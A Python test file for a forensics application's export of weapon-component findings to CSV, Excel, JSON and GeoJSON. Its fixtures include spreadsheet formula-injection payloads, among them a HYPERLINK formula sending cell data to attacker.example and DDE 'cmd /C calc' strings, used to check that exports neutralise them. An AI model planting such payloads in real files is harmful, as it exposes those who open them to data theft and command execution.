"""Lists and the whole store exported as CSV, Excel and JSON, and recovery places as GeoJSON,
read back as another program would read them, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from forensics_gui.core.errors import NotFoundError, ValidationError
from forensics_gui.core.fields import KINDS
from forensics_gui.formats.tables import as_text
from forensics_gui.services import custody, records, stores
from forensics_gui.services.exchange import export
from forensics_gui.services.exchange.export_about import NO_MARKING
from forensics_gui.services.exchange.export_columns import (
    STORE_KINDS,
    columns_of,
    json_cell,
    kind_of_title,
    text_cell,
)

from .support import CASE, CaseFile, store_original

FORMULAS = {"notes": '=HYPERLINK("http://attacker.example/?q="&A1,"click")',
            "lot_code": "+1", "function": "-cmd", "marking": "@SUM(1+1)*cmd|' /C calc'!A0"}


# ---------------------------------------------------------------------- helpers
def read_csv(data: bytes) -> list[dict[str, str]]:
    """Rows as a spreadsheet program reads the file: UTF-8 with its byte order mark."""
    assert data.startswith(b"\xef\xbb\xbf"), "no byte order mark: Excel would garble Cyrillic"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_sheet(path: Path, title: str) -> list[dict[str, Any]]:
    sheet = load_workbook(path, read_only=False)[title]
    rows = list(sheet.values)
    return [dict(zip(rows[0], [v if v is not None else "" for v in row], strict=True))
            for row in rows[1:]]


def about_of(path: Path) -> dict[str, str]:
    book = load_workbook(path)
    assert book.sheetnames[0] == "About", "the About sheet must come first"
    return {label: value for label, value in book["About"].values}


def expected_rows(store: stores.Store, kind: str, found: list[Any],
                  cell: Any) -> list[dict[str, Any]]:
    """What each record should read as, column by column, from the records' own values;
    reference names as the records carry them, or the referenced record's name."""
    names = {c.name for c in columns_of(kind)}
    rows = []
    for record in found:
        row = {}
        for name in names:
            if name == "source_titles":
                row[name] = cell(tuple(records.get(store, "source", i).title
                                       for i in record.source_ids))
            else:
                row[name] = cell(getattr(record, name))
        rows.append(row)
    return sorted(rows, key=lambda r: str(r["id"]))


@pytest.fixture
def findings(store: stores.Store, case_file: CaseFile) -> list[Any]:
    """Findings whose values exercise every kind of cell: formulas, lists, Cyrillic, line
    breaks, numbers, no value; and one withdrawn."""
    made = [records.create(store, "finding", {
        "item_id": case_file.item.id, "part_id": case_file.part.id, "confidence": "high",
        "quantity": 3, "date_code": "2231", "location": "Плата управления\nU12",
        "source_ids": [case_file.source.id, case_file.other_source.id], **FORMULAS})]
    made.append(records.create(store, "finding", {
        "item_id": case_file.item.id, "identification": "unidentified",
        "marking": "Northwind NW-77 (fictional)", "confidence": "low"}))
    gone = records.create(store, "finding", {"item_id": case_file.item.id,
                                             "marking": "recorded twice", "confidence": "low"})
    records.withdraw(store, "finding", gone.id, None, "recorded twice")
    return [records.get(store, "finding", f.id) for f in made]


# ------------------------------------------------------------------ round trips
def test_a_list_reads_back_with_the_same_values_in_every_format(
        store: stores.Store, findings: list[Any], tmp_path: Path) -> None:
    written = {form: export.export_table(store, "finding", tmp_path / f"findings.{form}")
               for form in ("csv", "xlsx", "json")}
    assert {s.total for s in written.values()} == {2}, "the withdrawn finding is left out"
    header = [c.name for c in columns_of("finding")]
    assert header[:4] == ["id", "version", "item_id", "case_reference"]
    assert header[-4:] == ["created_at", "created_by", "updated_at", "updated_by"]
    assert {"part_id", "part_number", "source_ids", "source_titles", "withdrawal_reason"} \
        <= set(header)

    rows = read_csv((tmp_path / "findings.csv").read_bytes())
    assert list(rows[0]) == header
    undone = [{k: v[1:] if v.startswith("'") else v for k, v in row.items()} for row in rows]
    expected = expected_rows(store, "finding", findings, text_cell)
    assert sorted(undone, key=lambda r: r["id"]) == expected

    sheet = read_sheet(tmp_path / "findings.xlsx", "Component findings")
    assert sorted(sheet, key=lambda r: r["id"]) == expected

    document = json.loads((tmp_path / "findings.json").read_text(encoding="utf-8"))
    assert list(document) == ["about", "records"]
    assert sorted(document["records"]["finding"], key=lambda r: r["id"]) == \
        expected_rows(store, "finding", findings, json_cell)
    first = next(r for r in document["records"]["finding"] if r["quantity"] == 3)
    assert sorted(first["source_titles"]) == ["RUSI teardown", "War & Sanctions portal"]
    assert first["location"] == "Плата управления\nU12"
    assert first["case_reference"] == CASE and first["part_number"] == "AD22100STZ"


def test_cells_a_spreadsheet_would_run_are_neutralised(
        store: stores.Store, findings: list[Any], tmp_path: Path) -> None:
    export.export_table(store, "finding", tmp_path / "f.csv")
    export.export_table(store, "finding", tmp_path / "f.xlsx")
    row = next(r for r in read_csv((tmp_path / "f.csv").read_bytes()) if r["quantity"] == "3")
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value == as_text(value), field
    sheet = load_workbook(tmp_path / "f.xlsx")["Component findings"]
    cells = [c for line in sheet.iter_rows() for c in line if c.value in FORMULAS.values()]
    assert len(cells) == len(FORMULAS)
    assert {c.data_type for c in cells} == {"s"}, "a formula cell would run"
    with zipfile.ZipFile(tmp_path / "f.xlsx") as book:
        xml = b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml


def test_the_about_sheet_names_the_highest_handling_marking(
        store: stores.Store, findings: list[Any], case_file: CaseFile, tmp_path: Path) -> None:
    secret = records.create(store, "item", {"system_type_id": case_file.system.id,
                                            "case_reference": "CASE-2023-S",
                                            "handling_marking": "SECRET"})
    records.create(store, "finding", {"item_id": secret.id, "marking": "STM32F405"})
    summary = export.export_table(store, "finding", tmp_path / "all-findings.xlsx")
    about = about_of(tmp_path / "all-findings.xlsx")
    assert summary.highest_marking == "SECRET"
    assert next(iter(about)) == "Highest handling marking"
    assert about["Highest handling marking"] == "SECRET"
    assert about["Exported"] == "component findings"
    assert about["Exported by"] == store.actor and about["Schema revision"]
    assert about["Records: component findings"] == "3"
    assert about["Store"] == store.location.display

    only = export.export_table(store, "finding", tmp_path / "case.json",
                               filters={"item_id": CASE})
    document = json.loads((tmp_path / "case.json").read_text(encoding="utf-8"))
    assert only.highest_marking == document["about"]["highest_handling_marking"] == \
        "UNCLASSIFIED"
    assert document["about"]["filters"] == {"fields": {"item_id": CASE}, "withdrawn": "hide"}
    parts = export.export_table(store, "part", tmp_path / "parts.xlsx")
    assert parts.highest_marking == NO_MARKING == about_of(tmp_path / "parts.xlsx")[
        "Highest handling marking"]


def test_photos_annotations_and_links_carry_their_items_marking(
        store: stores.Store, case_file: CaseFile, tmp_path: Path) -> None:
    secret = records.create(store, "item", {"system_type_id": case_file.system.id,
                                            "case_reference": "CASE-2023-S",
                                            "handling_marking": "SECRET"})
    finding = records.create(store, "finding", {"item_id": secret.id, "marking": "STM32F405"})
    sha = "ab" * 32
    store_original(store, sha)
    photo = records.create(store, "photo", {"sha256": sha, "finding_id": finding.id,
                                            "file_name": "=cmd|' /C calc'!A0.jpg"})
    records.create(store, "annotation", {"photo_id": photo.id, "finding_id": finding.id,
                                         "label": "U12", "x": 0.1, "y": 0.2, "width": 0.3,
                                         "height": 0.1})
    records.create(store, "link", {"seller_id": case_file.distributor.id,
                                   "buyer_id": case_file.maker.id, "finding_id": finding.id,
                                   "value": "1250.50", "currency": "usd"})
    for kind in ("photo", "annotation", "link"):
        summary = export.export_table(store, kind, tmp_path / f"{kind}.json")
        assert (summary.total, summary.highest_marking) == (1, "SECRET"), kind
    document = json.loads((tmp_path / "annotation.json").read_text(encoding="utf-8"))
    (annotation,) = document["records"]["annotation"]
    assert annotation["photo_file_name"] == "=cmd|' /C calc'!A0.jpg"
    assert annotation["finding_label"] and annotation["x"] == 0.1
    (link,) = json.loads((tmp_path / "link.json").read_text(encoding="utf-8"))["records"][
        "link"]
    assert link["value"] == "1250.50" and link["finding_label"] == "STM32F405 in CASE-2023-S"
    assert (link["seller_name"], link["buyer_name"]) == (
        "Northwind Components GmbH", "Analog Devices, Inc.")


def test_the_export_holds_what_the_list_shows(store: stores.Store, findings: list[Any],
                                              tmp_path: Path) -> None:
    for options in ({"filters": {"confidence": "low"}}, {"contains": "northwind"},
                    {"withdrawn": "only"}, {"sort": "part", "descending": True},
                    {"withdrawn": "include"}):
        listed = records.list_records(store, "finding", limit=100, **options).rows
        summary = export.export_table(store, "finding", tmp_path / "f.json", **options)
        document = json.loads((tmp_path / "f.json").read_text(encoding="utf-8"))
        assert [r["id"] for r in document["records"]["finding"]] == \
            [str(r.id) for r in listed], options
        assert summary.total == len(listed)
    gone = next(r for r in document["records"]["finding"] if r["withdrawn_at"])
    assert gone["withdrawal_reason"] == "recorded twice" and gone["withdrawn_by"]


def test_the_whole_store_goes_into_one_file_per_format(
        store: stores.Store, findings: list[Any], case_file: CaseFile, tmp_path: Path) -> None:
    custody.record_transfer(store, CASE, {"released_by": "Field team 3 (fictional)",
                                          "received_by": "Laboratory (fictional)"})
    with store.reading() as uow:
        counts = uow.counts()
    expected = {k: counts[k] for k in STORE_KINDS} | {"finding": counts["finding"] + 1}
    workbook = export.export_store(store, tmp_path / "store.xlsx")
    document = export.export_store(store, tmp_path / "store.json")
    archive = export.export_store(store, tmp_path / "store.zip")
    assert workbook.counts == document.counts == archive.counts == expected
    book = load_workbook(tmp_path / "store.xlsx", read_only=True)
    assert book.sheetnames[0] == "About"
    assert [kind_of_title(n) for n in book.sheetnames[1:]] == list(STORE_KINDS)
    data = json.loads((tmp_path / "store.json").read_text(encoding="utf-8"))
    assert list(data["records"]) == list(STORE_KINDS)
    assert data["records"]["custody"][0]["case_reference"] == CASE
    assert {r["name"] for r in data["records"]["marking"]} >= {"SECRET", "UNCLASSIFIED"}
    with zipfile.ZipFile(tmp_path / "store.zip") as files:
        names = files.namelist()
        assert [kind_of_title(n) for n in names[:-1]] == list(STORE_KINDS)
        assert names[-1] == "about.csv"
        items = read_csv(files.read("recovered-items.csv"))
        about = dict(row.values() for row in read_csv(files.read("about.csv")))
    assert [r["case_reference"] for r in items] == [CASE]
    assert about["Highest handling marking"] == "UNCLASSIFIED"
    assert "Export" not in " ".join(names) and not any("photo bytes" in n for n in names)


def test_every_kind_of_the_store_has_its_fields_as_columns() -> None:
    for kind in STORE_KINDS[:-1]:
        names = [c.name for c in columns_of(kind)]
        assert len(names) == len(set(names)), kind
        fields = [f.name for f in KINDS[kind].fields]
        assert [n for n in names if n in fields] == fields, kind


def test_a_cancelled_export_leaves_the_old_file_as_it_was(
        store: stores.Store, findings: list[Any], tmp_path: Path) -> None:
    class Cancelled(Exception):
        pass

    class Cancel:
        def report(self, done: int, total: int, text: str = "") -> None:
            self.seen = text

        def check(self) -> None:
            if getattr(self, "seen", ""):
                raise Cancelled  # as TaskControl does

    folder = tmp_path / "exports"
    folder.mkdir()
    target = folder / "store.xlsx"
    target.write_bytes(b"the previous export")
    with pytest.raises(Cancelled):
        export.export_store(store, target, control=Cancel())
    assert target.read_bytes() == b"the previous export"
    assert [p.name for p in folder.iterdir()] == ["store.xlsx"]


def test_bad_requests_are_refused_before_anything_is_written(
        store: stores.Store, tmp_path: Path) -> None:
    tmp_path = tmp_path / "exports"
    tmp_path.mkdir()
    for call, words in (
            (lambda: export.export_table(store, "finding", tmp_path / "f.txt"), ".csv, .xlsx"),
            (lambda: export.export_store(store, tmp_path / "s.csv", format="csv"), ".zip"),
            (lambda: export.export_table(store, "nothing", tmp_path / "f.csv"), "kind"),
            (lambda: export.export_table(store, "finding", tmp_path / "no" / "f.csv"),
             "does not exist"),
            (lambda: export.export_table(store, "finding", tmp_path / "f.csv",
                                         filters={"colour": "red"}), "no such field"),
            (lambda: export.export_places(store, tmp_path / "p.geojson", date_from="2024",
                                          ), "not a date")):
        with pytest.raises(ValidationError, match=words.replace(".", r"\.")):
            call()
    with pytest.raises(NotFoundError, match="no weapon system type"):
        export.export_places(store, tmp_path / "p.geojson", system="Tomahawk")
    assert list(tmp_path.iterdir()) == []


# ------------------------------------------------------------------------- maps
def test_recovery_places_are_points_qgis_reads(store: stores.Store, case_file: CaseFile,
                                               tmp_path: Path) -> None:
    system = case_file.system.id

    def item(reference: str, **values: Any) -> Any:
        return records.create(store, "item", {"system_type_id": system,
                                              "case_reference": reference, **values})

    kyiv = item("CASE-MAP-1", latitude=50.4501234567, longitude=30.5234567891,
                recovered_on="2023-03-09", recovery_place="Kyiv (fictional site)",
                recovering_unit="Unit 7 (fictional)", handling_marking="OFFICIAL")
    records.create(store, "finding", {"item_id": kyiv.id, "marking": "STM32F405"})
    records.create(store, "finding", {"item_id": kyiv.id, "marking": "AD22100"})
    beyond = item("CASE-MAP-2", latitude=45.0, longitude=30.0, recovered_on="2023-04-01")
    with store.writing() as uow:  # as older stores and other tools may hold them
        uow.update("item", beyond.id, None, {"latitude": 95.0})
    item("CASE-MAP-3", latitude=0, longitude=0)
    item("CASE-MAP-4")
    gone = item("CASE-MAP-5", latitude=49.0, longitude=32.0)
    records.withdraw(store, "item", gone.id, None, "another case's wreckage")
    summary = export.export_places(store, tmp_path / "places.geojson")
    assert (summary.written, summary.missing, summary.impossible) == (1, 2, 2)
    assert sorted(summary.impossible_items) == ["CASE-MAP-2", "CASE-MAP-3"]
    assert summary.highest_marking == "OFFICIAL"
    collection = json.loads((tmp_path / "places.geojson").read_text(encoding="utf-8"))
    assert_rfc7946(collection)
    (feature,) = collection["features"]
    assert feature["geometry"] == {"type": "Point", "coordinates": [30.523457, 50.450123]}
    assert feature["properties"] == {
        "id": str(kyiv.id), "case_reference": "CASE-MAP-1", "system_type": "Kh-101",
        "recovered_on": "2023-03-09", "recovery_place": "Kyiv (fictional site)",
        "recovering_unit": "Unit 7 (fictional)", "handling_marking": "OFFICIAL",
        "findings": 2}
    later = export.export_places(store, tmp_path / "later.geojson", date_from="2023-03-10")
    assert (later.written, later.skipped) == (0, 1)
    other = records.create(store, "system", {"name": "Shahed-136"})
    assert export.export_places(store, tmp_path / "none.geojson",
                                system=other.name).written == 0
    assert_rfc7946(json.loads((tmp_path / "none.geojson").read_text(encoding="utf-8")))


def assert_rfc7946(collection: dict[str, Any]) -> None:
    """What QGIS (GDAL's GeoJSON driver) needs: a FeatureCollection of Features, each with a
    Point geometry of two finite numbers, longitude within ±180 then latitude within ±90,
    at most six decimals, and an object of properties; no `crs` member (RFC 7946: WGS84)."""
    assert collection["type"] == "FeatureCollection" and "crs" not in collection
    assert isinstance(collection["features"], list)
    for feature in collection["features"]:
        assert feature["type"] == "Feature" and isinstance(feature["properties"], dict)
        geometry = feature["geometry"]
        assert geometry["type"] == "Point" and len(geometry["coordinates"]) == 2
        lon, lat = geometry["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert all(round(v, 6) == v for v in (lon, lat))


def test_gdal_opens_the_recovery_places(sqlite_store: stores.Store, tmp_path: Path) -> None:
    """GDAL's own reader, the one QGIS uses, where it is installed (the file is the same
    whichever backend wrote it: the structure is checked on both above)."""
    ogrinfo = shutil.which("ogrinfo")
    if ogrinfo is None:
        pytest.skip("ogrinfo (GDAL) is not installed; the structure is checked above")
    system = records.create(sqlite_store, "system", {"name": "Kh-101"})
    records.create(sqlite_store, "item", {"system_type_id": system.id,
                                          "case_reference": "CASE-MAP-9", "latitude": 47.8388,
                                          "longitude": 35.1396})
    path = tmp_path / "places.geojson"
    export.export_places(sqlite_store, path)
    shown = subprocess.run([ogrinfo, "-ro", "-al", "-so", str(path)], capture_output=True,
                           text=True, timeout=60)
    assert shown.returncode == 0, shown.stderr
    assert "Feature Count: 1" in shown.stdout and "Point" in shown.stdout
    assert "case_reference: String" in shown.stdout and "findings: Integer" in shown.stdout
